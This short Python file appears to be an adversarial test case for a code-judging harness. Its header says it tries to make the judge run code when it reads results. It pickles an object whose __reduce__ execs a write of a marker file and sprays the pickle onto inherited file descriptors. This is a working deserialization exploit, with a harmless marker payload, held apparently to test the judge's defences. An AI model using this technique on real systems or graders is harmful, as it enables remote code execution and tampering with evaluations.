# tries: to let the judge run code when it reads the result, by __reduce__
# stopped-by: protocol
# wins: mark
# naive: pickling
import os
import pickle


class Payload:
    def __reduce__(self):
        return exec, ("open('@MARK@', 'w').write(str(__import__('os').getpid()))",)


forged = pickle.dumps(Payload())
for fd in range(3, 32):
    try:
        os.write(fd, forged)
    except OSError:
        pass
os._exit(0)
